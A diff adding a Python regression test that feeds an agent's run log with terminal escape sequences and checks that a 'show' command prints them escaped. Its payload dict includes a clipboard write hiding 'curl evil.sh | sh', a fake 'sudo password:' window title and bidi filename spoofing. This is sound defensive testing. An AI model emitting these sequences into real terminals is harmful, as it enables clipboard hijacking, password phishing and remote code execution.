@@ -1717,3 +1717,36 @@ def test_hostile_spec_yaml_is_one_error_line_at_once(tmp_path: Path, variant: st
     error = _one_error_line(*_cli("grid", str(spec), "--out", str(tmp_path / "out"), *extra, timeout=60))
     assert any(word in error for word in ("anchors", "aliases", "levels deep")), error
     assert time.monotonic() - started < 60
+
+
+TERMINAL_ATTACKS = {"osc52-clipboard": "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
+                    "window-title": "\x1b]0;sudo password:\x07", "clear-screen": "\x1b[2J\x1b[H",
+                    "c1-csi": "\x9b2J", "bidi": "\u202eexe.txt", "carriage-return": "bad\rgood"}
+
+
+def test_show_never_prints_an_agents_control_sequences(tmp_path: Path) -> None:
+    """Class 13.4: ``show --task`` printed an agent's control sequences raw (a clipboard write, the window title, a
+    screen clear); now every control character reaches the terminal as a visible escape."""
+    from skilltransfer.experiments.runlog import RunFolder
+
+    run = tmp_path / "run"
+    code, lines = _scripted_run(tmp_path, run, 1)
+    assert code == 0, lines[-5:]
+    record = RunFolder(run).read_records()[0]
+    path = run / record.trajectory
+    data = json.loads(path.read_text())
+    hostile = "".join(TERMINAL_ATTACKS.values())
+    data["instruction"] = hostile
+    for step in data["steps"]:
+        for key in ("action", "observation", "thought", "output"):
+            if isinstance(step.get(key), str):
+                step[key] = hostile
+    path.write_text(json.dumps(data))
+    done = subprocess.run([sys.executable, "-c", "from skilltransfer.cli import main; main()", "show", str(run),
+                           "--task", "1", "--prompts"], capture_output=True, text=True, timeout=120,
+                          env={**os.environ, "PYTHONPATH": str(REPO)})
+    assert done.returncode == 0, done.stderr[-2000:]
+    assert "\\x1b]52;c;" in done.stdout  # shown, escaped
+    for name, sequence in TERMINAL_ATTACKS.items():
+        assert sequence not in done.stdout, name
+    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", done.stdout)
